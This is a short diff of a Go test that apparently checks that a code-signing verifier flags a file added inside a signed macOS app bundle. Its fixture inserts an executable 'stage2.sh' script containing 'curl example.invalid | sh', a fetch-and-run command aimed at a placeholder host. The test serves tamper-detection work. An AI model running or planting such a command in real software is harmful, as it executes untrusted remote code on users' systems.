@@ -18,7 +18,7 @@ func TestMacFileAddedInsideSignedContainer(t *testing.T) {
 	t.Parallel()
 	const added = "Example.app/Contents/Resources/stage2.sh"
 	bundle := func() map[string]machofile.BundleFile {
-		b := machofile.ExampleBundle(getFixtures(t).apple)
+		b := exampleBundle(t)
 		b[added] = machofile.BundleFile{Data: []byte("#!/bin/sh\ncurl example.invalid | sh\n"), Mode: 0o755}
 		return b
 	}
